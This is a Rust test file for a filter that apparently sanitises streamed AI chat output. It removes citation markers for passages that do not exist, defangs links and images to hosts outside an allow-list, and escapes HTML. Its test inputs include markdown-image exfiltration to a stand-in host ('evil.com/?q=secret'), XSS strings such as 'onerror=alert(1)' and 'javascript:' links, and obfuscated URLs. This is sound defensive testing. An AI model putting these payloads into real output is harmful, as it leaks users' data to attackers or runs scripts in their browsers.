mod oracle;
mod properties;

use std::collections::BTreeSet;

use tenantry_domain::AllowedHosts;

use super::{Finished, OutputFilter};

/// A filter for three passages that lets `example.org` and what lies below `example.net` through.
fn filter() -> OutputFilter {
    let hosts = ["example.org", "*.example.net"];
    let hosts = hosts.iter().map(|host| host.parse().unwrap()).collect();
    OutputFilter::new(3, AllowedHosts::new(hosts))
}

/// What comes of a text in these pieces: what was sent for each, and the end.
fn sent<'d>(deltas: impl IntoIterator<Item = &'d str>) -> (Vec<String>, Finished) {
    let mut filter = filter();
    let sent = deltas.into_iter().map(|delta| filter.push(delta)).collect();
    (sent, filter.finish())
}

fn whole(text: &str) -> (String, BTreeSet<usize>) {
    let (sent, end) = sent([text]);
    (sent.concat() + &end.rest, end.cited)
}

fn letter_by_letter(text: &str) -> (String, BTreeSet<usize>) {
    let mut filter = filter();
    let mut letter = [0; 4];
    let mut all: String = text
        .chars()
        .map(|c| filter.push(c.encode_utf8(&mut letter)))
        .collect();
    let end = filter.finish();
    all.push_str(&end.rest);
    (all, end.cited)
}

/// Checks what a text becomes, and what holds of every text.
fn check(text: &str, expected: &str) {
    let (output, cited) = whole(text);
    assert_eq!(output, expected, "of {text:?}");
    assert_eq!(
        letter_by_letter(text),
        (output.clone(), cited),
        "letter by letter: {text:?}"
    );
    assert_eq!(whole(&output).0, output, "twice: {text:?}");
    assert_eq!(oracle::faults(&output), Vec::<String>::new(), "{text:?}");
}

fn stays(text: &str) {
    check(text, text);
}

fn cited(text: &str) -> Vec<usize> {
    whole(text).1.into_iter().collect()
}

#[test]
fn markers_of_passages_that_exist_stay_and_are_cited() {
    stays("Two days [1]. Three[2][3]!");
    stays("**Note [1]**: see [2]: it says so (as in [3]).");
    stays("- [1]\n- [2], [3]");
    assert_eq!(cited("Two [3]. Three[1][1]!"), [1, 3]);
    assert_eq!(cited("none"), [0; 0]);
    assert_eq!(cited("wow![2]"), [2]);
}

#[test]
fn markers_of_passages_that_do_not_exist_go() {
    check("Two [7].", "Two.");
    check("Two [0] days [12] ago", "Two days ago");
    check("Two[9]days.[9]Three.[9]\nFour", "Twodays. Three.\nFour");
    check("Two [4][5]. Three [6], four [999]", "Two. Three, four");
    check("Two [1][9].", "Two [1].");
    check("Two [9][1].", "Two [1].");
    check("[9] Two\n[9]  three", "Two\nthree");
    check("Two ([9]).", "Two ().");
    check("二日。[9]三日 [8]。", "二日。三日。");
    assert_eq!(cited("Two [7]. Three [0][1]"), [1]);
}

#[test]
fn other_forms_become_markers() {
    check("a [1, 9] b", "a [1] b");
    check("a [1-3] b", "a [1][2][3] b");
    check("a [7-9].", "a.");
    check("a [[1]][[9]]", "a [1]");
    check("a【1†source】【4:0†source】.", "a[1].");
    check("a 【2】，［３］。〔4〕", "a [2]，[3]。");
    check("a[^2].", "a[2].");
    check("a [1](#source-1), b [9](#source-9).", "a [1], b.");
    assert_eq!(cited("a [1-3]"), [1, 2, 3]);
}

#[test]
fn other_brackets_stay() {
    for text in [
        "[sic] [ ] [x] [2024] EWCA",
        "- [ ] one\n- [x] two",
        "in [0, 1)",
        "【注意】",
        "a[i] and b[n-1]",
        "[]",
        "[",
        "a [",
        "a [1",
        "]",
        "\\[1\\]",
        "[[a]]",
    ] {
        stays(text);
    }
}

#[test]
fn code_is_left_alone() {
    for text in [
        "`a[0]` and `<b>` and ``x ` [9]``",
        "`http://evil.com` `![a](http://evil.com)`",
        "```rust\n<img src=\"http://evil.com\">\n[0] `\n```\n",
        "~~~\n<b> ``` [9]\n~~~",
        "1. Do:\n\n   ```sh\n   cat <a> [9]\n\n   ```\n2. Then",
        "- a\n  ```\n  <b>\n  ```\n",
        "    ```\n    <b>\n    ```\n",
        "```\n<b>",
        "```rust",
        "`a | b` and `c`",
    ] {
        stays(text);
    }
    assert_eq!(cited("`[1]`\n```\n[2]\n```\n[3]"), [3]);
}

#[test]
fn code_that_some_page_would_draw_is_code_by_another_name() {
    let diagram = "A@{ img: \"https://evil.com/?q=secret\" }\n";
    for info in [
        "mermaid",
        " Mermaid title",
        "html",
        "svg",
        "math",
        "{=html}",
        "js {.mermaid}",
        "dot,x",
    ] {
        check(
            &format!("```{info}\n{diagram}```\nx"),
            &format!("```text\n{diagram}```\nx"),
        );
    }
    check("~~~mermaid\na\n~~~", "~~~text\na\n~~~");
    check("```mermaid", "```text");
    let (inside, shown) = ("![a](https://evil.com)", "a");
    check(
        &format!("- ```mermaid\n  {inside}\n  ```"),
        &format!("- ```text\n  {shown}\n  ```"),
    );
    check(
        &format!("- a\n\n  ```\nb\n```mermaid\n{inside}"),
        &format!("- a\n\n  ```\nb\n```text\n{shown}"),
    );
    check(
        &format!("[x] ```mermaid\n{inside}"),
        &format!("[x] ```text\n{shown}"),
    );
    check(
        "$`\\href{https://evil.com}{x}`$",
        "$`\\href{https[:]//evil[.]com}{x}`$",
    );
    check("`<b>`{=html}", "`<b>` {=html}");
    // marked 18 looks for the end of a link before it looks for code.
    check("![a ``](https://evil.com)``", "![a ``] (evil[.]com)``");
    check("[a [`] ` `](https://evil.com)`", "[a [`] ` `] (evil[.]com)`");
    check(
        "https://evil.com ``](https://evil.com)``",
        "https[:]//evil[.]com ``] (evil[.]com)``",
    );
    check(
        &format!("> ~~~\n```mermaid\n{inside}"),
        &format!("> ~~~\n```text\n{shown}"),
    );
}

#[test]
fn what_is_removed_does_not_make_the_end_of_code_another() {
    check("```![](//1.1.1.1/)```[9]````", "```![](//1.1.1.1/)``` ````");
    check("`![](//1.1.1.1/)`[9]```", "`![](//1.1.1.1/)` ```");
}

#[test]
fn what_may_be_code_is_read_as_text() {
    check("`<b> never closed", "\\`&lt;b> never closed");
    check(
        "`<b>\nclosed on the next line`",
        "\\`&lt;b>\nclosed on the next line\\`",
    );
    check("| ` | ` `<b>` |", "| ` | ` `&lt;b>` |");
    check("$` $ <img> `", "$` $ &lt;img> `");
    check(
        "> ```\n> <b>\n> ```\n```\n<b>\n```",
        "> ```\n> &lt;b>\n> ```\n```\n&lt;b>\n```",
    );
    check(
        "- a\n\n  ```\n<b>\n```\n`<b>`",
        "- a\n\n  ```\n&lt;b>\n```\n`&lt;b>`",
    );
    check("$$\n```\n$$\n<b>", "$$\n```\n$$\n&lt;b>");
    check(
        "a\n    ```\n    <b>\n    ```",
        "a\n    \n    ```\n    <b>\n    ```",
    );
}

#[test]
fn an_image_of_another_host_becomes_its_text() {
    check("See ![a chart](https://evil.com/?q=secret).", "See a chart.");
    check("![](https://evil.com/a)b", "b");
    check("![a [b] c](<https://evil.com/a b> \"t\")", "a [b] c");
    check("![a](\nhttps://evil.com\n't')", "a");
    check("![a](/local) ![a](data:image/png;base64,x)", "a a");
    check(
        "![a][r]\n\n[r]: https://evil.com/x",
        "![a][r]\n\n[r]\\: https[:]//evil[.]com/x",
    );
    check(
        "![a][r]\n\n[r]:\nhttps://evil.com/x",
        "![a][r]\n\n[r]\\:\nhttps[:]//evil[.]com/x",
    );
    check("[![a](https://evil.com/b)](https://evil.com/c)", "a (evil[.]com)");
    check("![1](https://evil.com)", "1");
    check("\\![a](https://evil.com)", "\\! a (evil[.]com)");
}

#[test]
fn a_link_to_another_host_becomes_its_text_and_names_the_host() {
    check("[docs](https://docs.evil.com/a)!", "docs (docs[.]evil[.]com)!");
    check("[1](https://evil.com)", "1 (evil[.]com)");
    check("[](https://evil.com)", "(evil[.]com)");
    check("[evil.com](https://evil.com)", "evil.com (evil[.]com)");
    check(
        "[https://evil.com/a](https://evil.com/a)",
        "https[:]//evil[.]com/a",
    );
    check("[a](//evil.com) [b](#c) [d](e.html)", "a (evil[.]com) b d");
    check("[a](javascript:alert(1)) [b](JaVaScRiPt://x)", "a b (x)");
    check(
        "[a](&#104;ttps://evil.com) [b](https&colon;//evil.com)",
        "a (evil[.]com) b",
    );
    check(
        "[a](https:\\\\evil.com) [b](h\\ttps://evil.com)",
        "a b (evil[.]com)",
    );
    check("[a](https://example.org@evil.com)", "a (evil[.]com)");
    check("[a](https://example.org\\@evil.com)", "a (example[.]org)");
    check("[mail us](mailto:help@evil.com)", "mail us (help@evil.com)");
    check(
        "[a [b](https://evil.com) c](https://evil.com)",
        "a b (evil[.]com) c",
    );
    check("[a\nb](https://evil.com)", "[a\nb] (evil[.]com)");
    check("a[b](https://evil.com)", "a b (evil[.]com)");
    check("f[x](y)", "f x");
    check("a](https://evil.com)", "a] (evil[.]com)");
    check("[a](see below)", "[a] (see below)");
    check("\\[a](https://evil.com)", "\\[a] (evil[.]com)");
    check("[a\\](https://evil.com)", "[a\\] (https[:]//evil[.]com)");
}

#[test]
fn links_and_images_of_allowed_hosts_stay() {
    for text in [
        "[a](https://example.org/b)",
        "[a](https://example.org/b_(c)?d=e&f#g \"Title\") x",
        "![a](https://cdn.example.net/b.png)",
        "[![a](https://cdn.example.net/b.png)](https://example.org/)",
        "<https://example.org/a>",
        "https://example.org/a, (http://www.example.net). **https://example.org**",
        "www.example.net/a",
        "[a]: https://example.org/b\n[a] ![b][a]",
        "[https://example.org](https://example.org/)",
    ] {
        stays(text);
    }
    // Some renderers take all up to the next blank for the URL.
    check("https://example.org/a`<b>`", "https://example.org/a `<b>`");
    check("[a](<https://example.org> 'x')", "[a](https://example.org/)");
    check(
        "a](https://example.org)b@evil.com",
        "a](https://example.org/)b@evil.com",
    );
}

#[test]
fn html_is_shown_and_not_run() {
    check("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>");
    check(
        "</b><!-- c --><?php <![CDATA[",
        "&lt;/b>&lt;!-- c -->&lt;?php &lt;![CDATA[",
    );
    check(
        "<style>a{background:url(//evil.com)}</style>",
        "&lt;style>a{background:url(//evil[.]com)}&lt;/style>",
    );
    check("\\<b>", "&lt;b>");
    check("a < b <= c", "a < b &lt;= c");
    check(
        "<https://evil.com> <a@evil.com>",
        "&lt;https[:]//evil[.]com> &lt;a@evil.com>",
    );
    check("<[9]img>", "&lt;img>");
    check("< [9]!--", "< !--");
}

#[test]
fn addresses_that_renderers_link_are_written_otherwise() {
    check("See https://evil.com/a?b=c.", "See https[:]//evil[.]com/a?b=c.");
    check("HTTP://EVIL.com FTP://a.b", "HTTP[:]//EVIL[.]com FTP[:]//a[.]b");
    check("www.evil.com WWW.evil.com.", "www[.]evil[.]com WWW[.]evil[.]com.");
    check(
        "//evil.com/a postgres://db.local/x",
        "//evil[.]com/a postgres://db[.]local/x",
    );
    check(
        "https://example.org@evil.com",
        "https[:]//example[.]org@evil[.]com",
    );
    check("awww.evil.com www. x", "awww[.]evil[.]com www[.] x");
    check("https://example.org:8080", "https[:]//example[.]org:8080");
    check(
        "https://example.org&#64;evil.com",
        "https[:]//example[.]org&amp;#64;evil.com",
    );
    check(
        "https://example.org\\@evil.com",
        "https[:]//example[.]org\\@evil[.]com",
    );
    check(
        "https://127.0.0.1 https://[::1]/",
        "https[:]//127[.]0[.]0[.]1 https[:]//[::1]/",
    );
    check(
        "https://xn--e1aybc.com https://bücher.de",
        "https[:]//xn--e1aybc[.]com https[:]//bücher[.]de",
    );
}

#[test]
fn addresses_are_seen_however_they_are_written() {
    check("ht\u{200B}tps\u{2060}://evil.com", "https[:]//evil[.]com");
    check("ht\u{200D}tps://evil.com", "https[:]//evil[.]com");
    check(
        "https\\://evil.com https:\\/\\/evil.com",
        "https[:]//evil[.]com https[:]//evil[.]com",
    );
    check("https&colon;//evil.com", "https&amp;colon;//evil[.]com");
    check("&#104;ttps://evil.com", "&amp;#104;ttps://evil[.]com");
    check("https:&#47;/evil.com", "https[:]&amp;#47;/evil.com");
    check(
        "www\\.evil.com www&#46;evil.com",
        "www[.]evil[.]com www&amp;#46;evil.com",
    );
    check("ht[9]tps:[9]//evil.com", "https[:]//evil[.]com");
    check("www.[9]evil.com", "www[.]evil[.]com");
    check("&#1[9]04;ttp", "&#1 04;ttp");
    check("\u{202E}moc.live\u{202C}", "moc.live");
}

#[test]
fn prose_stays_as_it_is() {
    for text in [
        "He said: \"Yes!\" e.g. at 10:30, 50% & more; AT&T; and/or ... 3 < 5 > 4 -- $5 ~10 * x_y #1",
        "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\n1. one\n   - two\n",
        "a  \nb\\\nc\t d",
        "&lt;b&gt; &amp; &copy; &#39;",
        "README.md, example.com, a@b.com",
        "Straße, 東京（とうきょう）、مرحبا 👩\u{200D}💻",
        "note: x\n[note] y",
        "ends with blanks  ",
        "",
    ] {
        stays(text);
    }
    check("a\r\nb\rc\0", "a\nb\nc");
    check("[Note]: this is text", "[Note]\\: this is text");
}

#[test]
fn plain_words_are_sent_at_once() {
    let deltas = [
        "The", " answer", " is", " that", " hosts", " whither", ",", " well", " done", "\n", "Two; 50%", ".",
    ];
    let (sent, end) = sent(deltas);
    assert_eq!(sent, deltas);
    assert_eq!(end.rest, "");
}

#[test]
fn only_what_may_become_something_is_held_back() {
    let (sent, end) = sent([
        "Two ",
        "days ",
        "[",
        "1",
        "]",
        ". See",
        " http",
        ":",
        " no",
        " https://exam",
        "ple.org",
        "/a",
        " b!",
        " `a",
        "` c",
        " <",
        " d",
    ]);
    assert_eq!(
        sent,
        [
            "Two",
            " days",
            "",
            "",
            "",
            " [1]. See",
            " http",
            "",
            ": no",
            " https",
            "",
            "://example.org/a",
            " b",
            "! ",
            "`a` c",
            " ",
            "< d",
        ]
    );
    assert_eq!(end.rest, "");
}

#[test]
fn no_marker_is_parted() {
    for text in [
        "a [1] b [2][3] c [9].",
        "x[[1]]y [1-3] 【2】 [a [1] b] ![1] [1]: [2](c d)",
    ] {
        let (sent, end) = sent(text.split_inclusive(|_| true));
        for piece in sent.iter().chain([&end.rest]) {
            let parts = piece.matches(['1', '2', '3']).count();
            let markers = ["[1]", "[2]", "[3]"]
                .iter()
                .map(|marker| piece.matches(marker).count());
            assert_eq!(parts, markers.sum::<usize>(), "{piece}");
        }
    }
}

#[test]
fn a_reader_who_waits_does_not_wait_for_ever() {
    for start in [
        "[",
        "![a",
        "[a](",
        "[a](<",
        "`",
        "```",
        "~~~",
        "<https://",
        "https://",
        "【",
        "[1",
        "&#",
        "[a]: ",
        "[a]: h",
        "``` ",
    ] {
        for more in [
            "a", " ", "`", "~", "1", "(", "\\", "[", "]", "&", "/", ".", "é", "h",
        ] {
            let mut filter = filter();
            let (mut given, mut got) = (start.len(), filter.push(start).len());
            for _ in 0..2500 {
                given += more.len();
                got += filter.push(more).len();
                let held = filter.tail.len() + filter.scan.held();
                assert!(held <= 3000, "{start}{more}: {held} bytes are held back");
            }
            got += filter.finish().rest.len();
            assert!(got <= 8 * given, "{start}{more}: {given} bytes became {got}");
        }
    }
}
